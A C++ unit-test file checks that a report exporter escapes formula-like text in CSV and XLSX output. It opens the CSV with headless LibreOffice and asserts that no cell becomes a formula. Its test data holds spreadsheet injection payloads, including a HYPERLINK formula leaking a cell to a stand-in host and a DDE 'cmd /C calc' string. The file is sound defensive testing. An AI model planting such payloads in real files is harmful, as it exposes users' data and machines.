// Texts typed into the table never run as formulas: the CSV opened by LibreOffice's own import
// (headless, a private profile) and the workbook as written, both read back by XlsxReader. The
// CSV's bytes otherwise are CsvExportTest's.
#include "CsvExport.h"
#include "Report.h"
#include "XlsxReader.h"

#include <QProcess>
#include <QTemporaryDir>
#include <QUrl>
#include <gtest/gtest.h>

namespace vemla {
namespace {

using Texts = std::array<QString, kTableColumns>;

// Typed text, then what the CSV cell must read as in a spreadsheet.
const std::vector<std::pair<Texts, Texts>> kRows{
    {{"=1+1", R"(=HYPERLINK("http://x/?"&A1,"y"))", "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A2)",
      "-1+1", "\t=2+2"},
     {"'=1+1", R"('=HYPERLINK("http://x/?"&A1,"y"))", "'=cmd|' /C calc'!A0", "'+1+1",
      "'@SUM(A1:A2)", "'-1+1", "'\t=2+2"}},
    // The meter's own texts stay as they are; LibreOffice reads the plain numbers as numbers.
    // LibreOffice reads the date as a date of its own (""): no formula, not compared.
    {{"3", "1550", "-12.34dBm", "-3.20dB", "-9.14dBm", "2026-12-07  14:03  ", "\r=3+3"},
     {"3", "1550", "-12.34dBm", "-3.20dB", "-9.14dBm", "", "'\r=3+3"}},
};

UploadDocument Typed() {
    UploadDocument d;
    d.language = Language::English;
    for (const auto& row : kRows)
        d.rows.push_back({{0, 1550, -12.34f, -3.2f, true, {26, 12, 7, 14, 3}}, {}, row.first});
    return d;
}

// No cell of the sheet is a formula, and the table's cells from `firstRow` read as they should.
void ExpectTexts(const test::XlsxReader& x, int firstRow, bool sheetOne) {
    for (const QString& ref : x.Refs())
        EXPECT_FALSE(x.Cell(ref).formula) << ref.toStdString();
    for (size_t r = 0; r < kRows.size(); ++r)
        for (int c = sheetOne ? 1 : 0; c < kTableColumns; ++c) {
            const QString ref = QStringLiteral("%1%2").arg(QChar('A' + c)).arg(firstRow + int(r));
            QString want = sheetOne ? kRows[r].first[size_t(c)] : kRows[r].second[size_t(c)];
            // A CR arrives as LibreOffice's LF, or as the workbook's escape _x000D_.
            QString got = x.Cell(ref).value.replace("_x000D_", "\r").replace('\r', '\n');
            if (!want.isEmpty()) {
                EXPECT_EQ(got, want.replace('\r', '\n')) << ref.toStdString();
            }
        }
}

TEST(FormulaGuard, CsvOpenedByLibreOfficeHasNoFormulaAndEveryTextAsWritten) {
    QTemporaryDir dir;
    ASSERT_TRUE(test::WriteFile(dir.filePath("t.csv"), CsvBytes(Typed())));
    // LibreOffice's defaults (formulas evaluated), told only that the file is UTF-8.
    QProcess soffice;
    soffice.start(QStringLiteral("soffice"),
                  {"-env:UserInstallation=" + QUrl::fromLocalFile(dir.filePath("profile")).url(),
                   "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir",
                   dir.path(), dir.filePath("t.csv")});
    ASSERT_TRUE(soffice.waitForFinished(240000));
    const test::XlsxReader x(dir.filePath("t.xlsx"));
    ASSERT_TRUE(x.Has("A2")) << soffice.readAllStandardError().toStdString();
    ExpectTexts(x, 2, false);
    // The machine columns stay numbers.
    EXPECT_EQ(x.Cell("I2").value + " " + x.Cell("J2").value, "-12.34 -3.2");
    EXPECT_TRUE(x.Cell("I2").IsNumber());
}

TEST(FormulaGuard, WorkbookWritesEveryTypedTextAsText) {
    QTemporaryDir dir;
    XlsxReportWriter writer;
    ASSERT_TRUE(writer.Write(Typed(), {dir.filePath("r.xlsx"), Replace::Never, false}).ok);
    ExpectTexts(test::XlsxReader(dir.filePath("r.xlsx")), 7, true);
}

} // namespace
} // namespace vemla
